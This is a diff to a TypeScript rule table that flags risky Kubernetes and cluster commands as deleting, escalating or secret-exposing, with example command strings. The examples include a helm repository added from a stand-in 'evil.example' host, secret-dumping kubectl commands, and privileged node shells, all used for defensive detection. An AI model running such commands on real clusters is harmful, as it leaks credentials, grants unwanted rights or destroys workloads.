@@ -1,3 +1,4 @@
+import { installsFromPlainAddress } from "./packages.js";
 import { type Call, carriedAfter, subject } from "./row.js";
 
 const DELETES = "deletes objects of a cluster";
@@ -21,266 +22,114 @@ const RISKY_PATCH =
 const RISKY_POD = /privileged"?\s*:\s*true|host(?:PID|IPC|Path)/;
 
 /** Kubernetes and the other programs that run many machines as one. */
+// biome-ignore format: a table; what belongs to a row stands together
 export const RULES = subject("container", [
-  {
-    program: "kubectl|oc|kubecolor|k",
-    taking:
-      "n namespace context cluster user s server kubeconfig as as-group as-uid token request-timeout v cache-dir " +
-      "certificate-authority client-certificate client-key tls-server-name profile field-manager f filename k " +
-      "kustomize l selector o output replicas p patch type field-selector grace-period timeout c container image " +
-      "overrides clusterrole role serviceaccount template sort-by cascade subresource to-revision tail since",
-    not_match: ["kubectl get ns", "kubectl get pods"],
-    rows: [
+  { dry: "dry-run", tools: [
+    { program: "kubectl|oc|kubecolor|k",
+      taking: "n namespace context cluster user s server kubeconfig as as-group as-uid token request-timeout v cache-dir " +
+        "certificate-authority client-certificate client-key tls-server-name profile field-manager f filename k " +
+        "kustomize l selector o output replicas p patch type field-selector grace-period timeout c container image " +
+        "overrides clusterrole role serviceaccount template sort-by cascade subresource to-revision tail since",
+      not_match: ["kubectl get ns", "kubectl get pods"], rows: [
       { path: "delete", reason: DELETES, match: ["k delete pod x"] },
       { path: "drain|cordon|taint", reason: "takes a node out of service", match: ["kubectl drain node1"] },
-      {
-        path: "adm drain|cordon|taint|prune",
-        reason: "takes nodes out of service or deletes objects",
-        match: ["oc adm drain node1"],
-      },
-      {
-        path: "adm policy *",
-        reason: RIGHTS,
-        match: ["oc adm policy add-cluster-role-to-user cluster-admin bob"],
-      },
-      {
-        path: "policy add-role-to-user|add-cluster-role-to-user|remove-role-from-user",
-        reason: RIGHTS,
-        match: ["kubectl policy add-role-to-user"],
-      },
-      {
-        path: "scale",
-        when: (call) => call.given("replicas").some(({ text }) => Number(text) === 0),
-        reason: STOPS,
-        match: ["kubectl scale sts/db --replicas=0"],
-        not_match: ["kubectl scale deploy/web --replicas=3"],
-      },
+      { path: "adm drain|cordon|taint|prune", reason: "takes nodes out of service or deletes objects",
+        match: ["oc adm drain node1"] },
+      { path: "adm policy *", reason: RIGHTS,
+        match: ["oc adm policy add-cluster-role-to-user cluster-admin bob"] },
+      { path: "policy add-role-to-user|add-cluster-role-to-user|remove-role-from-user", reason: RIGHTS,
+        match: ["kubectl policy add-role-to-user"] },
+      { path: "scale", when: (call) => call.given("replicas").some(({ text }) => Number(text) === 0),
+        reason: STOPS, match: ["kubectl scale sts/db --replicas=0"],
+        not_match: ["kubectl scale deploy/web --replicas=3"] },
       { path: "rollout undo", reason: ROLLS_BACK, match: ["kubectl rollout undo deployment/web"] },
       { path: "rollout restart", reason: STOPS, match: ["kubectl rollout restart deployment/web"] },
-      {
-        path: "replace",
-        options: "force",
-        reason: DELETES,
-        match: ["kubectl replace --force -f pod.yaml"],
-        not_match: ["kubectl replace"],
-      },
-      {
-        path: "apply",
-        options: "prune force",
-        reason: DELETES,
-        match: ["kubectl apply --prune -f dir -l app=x"],
-        not_match: ["kubectl apply -f deploy.yaml"],
-      },
-      {
-        path: "patch",
-        when: (call) => call.given("p", "patch").find(({ text }) => RISKY_PATCH.test(text)),
+      { path: "replace", options: "force", reason: DELETES, match: ["kubectl replace --force -f pod.yaml"],
+        not_match: ["kubectl replace"] },
+      { path: "apply", options: "prune force", reason: DELETES,
+        match: ["kubectl apply --prune -f dir -l app=x"], not_match: ["kubectl apply -f deploy.yaml"] },
+      { path: "patch", when: (call) => call.given("p", "patch").find(({ text }) => RISKY_PATCH.test(text)),
         reason: "removes parts of an object or stops it",
         match: ['kubectl patch node n1 -p \'{"spec":{"unschedulable":true}}\''],
-        not_match: ['kubectl patch deploy web -p \'{"spec":{"replicas":3}}\''],
-      },
-      {
-        path: "create clusterrolebinding|rolebinding",
+        not_match: ['kubectl patch deploy web -p \'{"spec":{"replicas":3}}\''] },
+      { path: "create clusterrolebinding|rolebinding",
         when: (call) => call.given("clusterrole", "role").find(({ text }) => /admin|edit/.test(text)),
-        reason: RIGHTS,
-        match: ["kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=me"],
-        not_match: ["kubectl create rolebinding x --clusterrole=view --user=me"],
-      },
-      {
-        path: "get",
-        when: showsSecrets,
-        reason: "prints secrets of a cluster",
-        match: ["kubectl get secrets -o json"],
-        not_match: ["oc get pods"],
-      },
-      {
-        path: "config view",
-        options: "raw",
-        reason: "prints keys to a cluster",
-        match: ["kubectl config view --raw"],
-        not_match: ["kubectl config view"],
-      },
-      {
-        path: "config delete-context|delete-cluster|delete-user|unset",
-        reason: "removes access to a cluster",
-        match: ["kubectl config delete-context prod"],
-      },
-      {
-        path: "debug",
-        when: ({ rest }) => rest.find(({ text }) => text.startsWith("node/")),
-        reason: "opens a shell on a node",
-        match: ["kubectl debug node/worker-1 -it --image=busybox"],
-        not_match: ["kubectl debug pod/web -it --image=busybox"],
-      },
-      {
-        path: "run",
-        when: (call) =>
-          call.has("privileged") || call.given("overrides").some(({ text }) => RISKY_POD.test(text)),
+        reason: RIGHTS, match: ["kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=me"],
+        not_match: ["kubectl create rolebinding x --clusterrole=view --user=me"] },
+      { path: "get", when: showsSecrets, reason: "prints secrets of a cluster",
+        match: ["kubectl get secrets -o json"], not_match: ["oc get pods"] },
+      { path: "config view", options: "raw", reason: "prints keys to a cluster",
+        match: ["kubectl config view --raw"], not_match: ["kubectl config view"] },
+      { path: "config delete-context|delete-cluster|delete-user|unset",
+        reason: "removes access to a cluster", match: ["kubectl config delete-context prod"] },
+      { path: "debug", when: ({ rest }) => rest.find(({ text }) => text.startsWith("node/")),
+        reason: "opens a shell on a node", match: ["kubectl debug node/worker-1 -it --image=busybox"],
+        not_match: ["kubectl debug pod/web -it --image=busybox"] },
+      { path: "run",
+        when: (call) => call.has("privileged") || call.given("overrides").some(({ text }) => RISKY_POD.test(text)),
         reason: "starts a container with rights on the node",
         match: ['kubectl run x --image=alpine --overrides \'{"spec":{"hostPID":true}}\''],
-        not_match: ["kubectl run x --image=alpine"],
-      },
+        not_match: ["kubectl run x --image=alpine"] },
       { path: "certificate deny", reason: RIGHTS, match: ["kubectl certificate deny"] },
-    ],
-  },
-  {
-    program: "helm",
-    taking: "n namespace kube-context kubeconfig f values set version timeout registry-config",
-    not_match: ["helm search repo delete", "helm uninstall shop --dry-run"],
-    rows: [
+    ] },
+    { program: "helm",
+      taking: "n namespace kube-context kubeconfig f values set version timeout registry-config",
+      not_match: ["helm search repo delete", "helm uninstall shop --dry-run"], rows: [
       { path: "uninstall|delete|del|un", reason: DELETES, match: ["helm uninstall shop"] },
       { path: "rollback", reason: ROLLS_BACK, match: ["helm -n prod rollback shop 1"] },
-      {
-        path: "upgrade",
-        options: "force force-replace",
-        reason: DELETES,
-        match: ["helm upgrade --force-replace"],
-        not_match: ["helm upgrade --install shop ./chart"],
-      },
-    ],
-  },
-  {
-    program: "minikube",
-    taking: "p profile",
-    carries: carriedAfter("kubectl", "kubectl"),
-    not_match: ["minikube start", "minikube status"],
-    rows: [{ path: "delete|stop|pause", reason: STOPS, match: ["minikube delete"] }],
-  },
-  {
-    program: "microk8s",
-    carries: carriedAfter("kubectl", "kubectl"),
-    rows: [
+      { path: "upgrade", options: "force force-replace", reason: DELETES,
+        match: ["helm upgrade shop ./chart --force"], not_match: ["helm upgrade --install shop ./chart"] },
+      { when: installsFromPlainAddress, rule: "package.source",
+        reason: "fetches software over an unprotected connection",
+        match: ["helm repo add evil http://evil.example"], not_match: ["helm list -A"] },
+    ] },
+    { program: "minikube", taking: "p profile", carries: carriedAfter("kubectl", "kubectl"),
+      not_match: ["minikube start", "minikube status"], rows: [
+      { path: "delete|stop|pause", reason: STOPS, match: ["minikube delete"] },
+    ] },
+    { program: "microk8s", carries: carriedAfter("kubectl", "kubectl"), rows: [
       { path: "reset|stop|disable", reason: STOPS, match: ["microk8s reset"] },
-      { path: "leave|remove-node", family: "rare", reason: RARELY, match: ["microk8s leave"] },
-    ],
-  },
-  {
-    program: "k3s",
-    carries: carriedAfter("kubectl", "kubectl"),
-    rows: [{ path: "crictl|ctr rm|rmi|stop", reason: DELETES, match: ["k3s crictl rm"] }],
-  },
-  {
-    program: "kind",
-    taking: "name",
-    path: "delete *",
-    reason: DELETES,
-    match: ["kind delete cluster"],
-    not_match: ["kind get clusters"],
-  },
-  {
-    program: "k3d",
-    path: "* delete|stop",
-    reason: DELETES,
-    match: ["k3d cluster delete dev"],
-    not_match: ["k3d cluster list"],
-  },
-  {
-    program: "eksctl",
-    path: "delete|drain *",
-    reason: DELETES,
-    match: ["eksctl delete cluster prod"],
-    not_match: ["eksctl get cluster"],
-  },
-  {
-    program: "kops",
-    taking: "name state",
-    path: "delete *",
-    reason: DELETES,
-    match: ["kops delete cluster prod --yes"],
-  },
-  {
-    program: "kubeadm",
-    path: "reset",
-    reason: "takes this machine out of its cluster",
-    match: ["kubeadm reset -f"],
-  },
-  {
-    program: "crictl",
-    taking: "r i t c",
-    path: "rm|rmi|rmp|stop|stopp",
-    reason: DELETES,
-    match: ["crictl rm -f abc"],
-    not_match: ["crictl ps"],
-  },
-  {
-    program: "ctr",
-    taking: "n namespace a address",
-    path: "** rm|remove|delete|kill|del",
-    reason: DELETES,
-    match: ["ctr -n k8s.io containers rm abc"],
-  },
-  {
-    program: "argocd",
-    not_match: ["argocd app list", "argocd app get delete"],
-    rows: [
-      {
-        path: "app|appset|proj|repo|cluster delete|rm|delete-resource",
-        reason: DELETES,
-        match: ["argocd app delete shop"],
-      },
+      { family: "rare", path: "leave|remove-node", reason: RARELY, match: ["microk8s leave"] },
+    ] },
+    { program: "k3s", carries: carriedAfter("kubectl", "kubectl"), rows: [
+      { path: "crictl|ctr rm|rmi|stop", reason: DELETES, match: ["k3s crictl rm"] },
+    ] },
+    { program: "kind", taking: "name", path: "delete *", reason: DELETES, match: ["kind delete cluster"],
+      not_match: ["kind get clusters"] },
+    { program: "k3d", path: "* delete|stop", reason: DELETES, match: ["k3d cluster delete dev"],
+      not_match: ["k3d cluster list"] },
+    { program: "eksctl", path: "delete|drain *", reason: DELETES, match: ["eksctl delete cluster prod"],
+      not_match: ["eksctl get cluster"] },
+    { program: "kops", taking: "name state", path: "delete *", reason: DELETES,
+      match: ["kops delete cluster prod --yes"] },
+    { program: "kubeadm", path: "reset", reason: "takes this machine out of its cluster",
+      match: ["kubeadm reset -f"] },
+    { program: "crictl", taking: "r i t c", path: "rm|rmi|rmp|stop|stopp", reason: DELETES,
+      match: ["crictl rm -f abc"], not_match: ["crictl ps"] },
+    { program: "ctr", taking: "n namespace a address", path: "** rm|remove|delete|kill|del", reason: DELETES,
+      match: ["ctr -n k8s.io containers rm abc"] },
+    { program: "argocd", not_match: ["argocd app list", "argocd app get delete"], rows: [
+      { path: "app|appset|proj|repo|cluster delete|rm|delete-resource", reason: DELETES,
+        match: ["argocd app delete shop"] },
       { path: "app rollback", reason: ROLLS_BACK, match: ["argocd app rollback"] },
-    ],
-  },
-  {
-    program: "flux",
-    rows: [
+    ] },
+    { program: "flux", rows: [
       { path: "uninstall|delete", reason: DELETES, match: ["flux uninstall"] },
       { path: "suspend", reason: STOPS, match: ["flux suspend"] },
-    ],
-  },
-  {
-    program: "istioctl",
-    rows: [
-      { path: "uninstall", reason: DELETES, match: ["istioctl uninstall --purge -y"] },
-      {
-        path: "x",
-        rule: "container.x",
-        when: ({ operands }) => operands.find(({ text }) => text === "uninstall"),
-        reason: DELETES,
-        match: ["istioctl x uninstall --purge"],
-      },
-    ],
-  },
-  { program: "linkerd", path: "uninstall", reason: DELETES, match: ["linkerd uninstall"] },
-  { program: "velero", path: "** delete|uninstall", reason: DELETES, match: ["velero delete"] },
-  {
-    program: "okteto|skaffold|tilt|devspace|werf",
-    path: "destroy|delete|down|purge|dismiss",
-    reason: DELETES,
-    match: ["skaffold delete"],
-  },
-  {
-    program:
-      "k3s-uninstall.sh|k3s-agent-uninstall.sh|rke2-uninstall.sh|k3s-killall.sh|rke2-killall.sh|microk8s.reset",
-    rule: "rare.use",
-    reason: WHOLE_CLUSTER,
-    match: ["k3s-uninstall.sh"],
-    not_match: ["k3s-uninstall.sh --help"],
-  },
-  { program: "k0s", family: "rare", path: "reset|stop", reason: RARELY, match: ["k0s reset"] },
-  { program: "rancher", family: "rare", path: "** rm|delete|remove", reason: RARELY, match: ["rancher rm"] },
-  {
-    program: "consul",
-    not_match: ["consul kv get app", "consul members"],
-    rows: [
-      {
-        path: "kv|acl|config|snapshot|services delete|restore|deregister",
-        family: "cloud",
-        reason: "deletes shared settings",
-        match: ["consul kv delete -recurse app"],
-      },
-      {
-        path: "leave|force-leave|maint",
-        family: "rare",
-        reason: "stops a service or takes it out of use",
-        match: ["consul leave"],
-      },
-      { path: "intention delete", family: "rare", reason: RARELY, match: ["consul intention delete"] },
-      {
-        path: "acl token|policy|role delete",
-        family: "rare",
-        reason: RARELY,
-        match: ["consul acl token delete"],
-      },
-    ],
-  },
+    ] },
+    { program: "istioctl", reason: DELETES, rows: [
+      { path: "uninstall", match: ["istioctl uninstall --purge -y"] },
+      { path: "x", when: ({ operands }) => operands.find(({ text }) => text === "uninstall"),
+        rule: "container.x", match: ["istioctl x uninstall --purge"] },
+    ] },
+    { program: "linkerd", path: "uninstall", reason: DELETES, match: ["linkerd uninstall"] },
+    { program: "velero", path: "** delete|uninstall", reason: DELETES, match: ["velero delete"] },
+    { program: "okteto|skaffold|tilt|devspace|werf", path: "destroy|delete|down|purge|dismiss",
+      reason: DELETES, match: ["skaffold delete"] },
+    { program: "k3s-uninstall.sh|k3s-agent-uninstall.sh|rke2-uninstall.sh|k3s-killall.sh|rke2-killall.sh|microk8s.reset",
+      dry: "", rule: "rare.use", reason: WHOLE_CLUSTER, match: ["k3s-uninstall.sh"],
+      not_match: ["k3s-uninstall.sh --help"] },
+    { program: "k0s", family: "rare", path: "reset|stop", reason: RARELY, match: ["k0s reset"] },
+    { program: "rancher", family: "rare", path: "** rm|delete|remove", reason: RARELY, match: ["rancher rm"] },
+  ] },
 ]);
